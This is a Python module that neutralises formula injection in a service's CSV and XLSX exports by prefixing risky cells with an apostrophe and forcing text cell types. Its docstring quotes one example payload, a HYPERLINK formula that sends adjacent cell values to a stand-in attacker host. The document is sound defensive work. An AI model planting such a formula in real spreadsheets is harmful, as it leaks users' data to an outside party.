"""Every spreadsheet this service writes (XLSX or CSV) is written through here, so no exported cell is a formula.

Exported text comes from people: company names, project titles, lead notes, rows of an imported file. A
spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and carriage return
too, in some programs), and ``=HYPERLINK("http://evil.example/?a="&A1,"点我")`` in a project title would send
the neighbouring cells to whoever wrote it when a manager clicks it. So every text cell that starts with one of
those characters gets an apostrophe in front (the OWASP advice for CSV injection), and XLSX text cells are
written as strings, never as formulas. A value that already starts with an apostrophe gets one more, so that
the importers, which strip one apostrophe, read back exactly what was stored.

Callers pass the values as they are (text, numbers, Decimals, dates); only text is touched. Nobody should call
``csv.writer`` or ``sheet.append`` for an export directly: ``tests/security/test_exports.py`` walks every
export endpoint and command with formula-like data.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import IO, Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
MONEY_FORMAT = "#,##0.00"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(text: str) -> str:
    """Put an apostrophe before a value a spreadsheet would run as a formula (=, +, -, @, tab, CR).

    A value that already starts with the apostrophe gets one more, so that stripping one apostrophe
    on import always gives back the stored value.
    """
    if text and (text[0] in FORMULA_TRIGGERS or text[0] == ESCAPE):
        return ESCAPE + text
    return text


def safe_value(value: Any) -> Any:
    """The value as it goes into a cell: text neutralised, anything else (numbers, dates, None) unchanged."""
    if isinstance(value, str):
        return neutralise(value)
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) if isinstance(value, str) else value for value in row]


def csv_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """CSV in UTF-8 with BOM, which Chinese Excel opens with the right characters; every cell neutralised."""
    buffer = io.StringIO(newline="")
    write_csv_to(buffer, headers, rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def write_csv_to(stream: IO[str], headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """The CSV of `csv_bytes` written row by row into an open text file (opened with newline=""; the caller
    chooses the encoding, "utf-8-sig" for Excel): rows may be a generator, nothing is held."""
    writer = csv.writer(stream)
    writer.writerow(safe_row("" if h is None else str(h) for h in headers))
    writer.writerows(safe_row("" if v is None else v for v in row) for row in rows)


def _force_text(sheet_row: Iterable[Any]) -> None:
    # openpyxl decides a cell's type from its value; after neutralise() no text starts with "=", but say
    # "string" outright so that no later change to either can turn a text cell into a formula.
    for cell in sheet_row:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def append(sheet: Any, row: Iterable[Any]) -> None:
    """Append one row to an ordinary (not write-only) openpyxl worksheet, text as text."""
    sheet.append(safe_row(row))
    _force_text(sheet[sheet.max_row])


def add_sheet(
    book: Any,
    title: str,
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    money_columns: Iterable[int] = (),
    widths: Sequence[int] | None = None,
    number_format: str = MONEY_FORMAT,
) -> Any:
    """A sheet with a bold header row, frozen below it, money columns (0-based) with a thousands format."""
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    sheet = book.create_sheet(str(title))
    append(sheet, [str(h) for h in header])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        append(sheet, row)
    for index in money_columns:
        for (cell,) in sheet.iter_rows(min_row=2, min_col=index + 1, max_col=index + 1):
            cell.number_format = number_format
    for index, title_text in enumerate(header, start=1):
        width = widths[index - 1] if widths else max(12, len(str(title_text)) * 2 + 2)
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"
    return sheet


def new_workbook() -> Any:
    """An empty workbook (its default sheet removed) for add_sheet()."""
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    return book


def workbook_bytes(book: Any) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]], title: str) -> bytes:
    """One sheet streamed row by row (openpyxl's write-only mode: 100,000 rows in little memory)."""
    buffer = io.BytesIO()
    write_xlsx_to(buffer, headers, rows, title)
    return buffer.getvalue()


def write_xlsx_to(target: Any, headers: Sequence[Any], rows: Iterable[Sequence[Any]], title: str) -> None:
    """The sheet of `xlsx_bytes` saved to a path or an open binary file: rows may be a generator (openpyxl's
    write-only sheet keeps them in a temporary file until the workbook is saved)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)

    def cells(row: Iterable[Any]) -> list[Any]:
        out = safe_row(row)
        # A plain string is typed "s" by openpyxl unless it starts with "=" (impossible after neutralise) or
        # is an error code such as "#N/A": only those get a cell object typed as text (one per cell would
        # cost seconds on the 100,000-row company export).
        for index, value in enumerate(out):
            if isinstance(value, str) and (value in ERROR_CODES or value.startswith("=")):
                cell = WriteOnlyCell(sheet, value=value)
                cell.data_type = "s"
                out[index] = cell
        return out

    sheet.append(cells("" if h is None else str(h) for h in headers))
    for row in rows:
        sheet.append(cells(row))
    workbook.save(target)
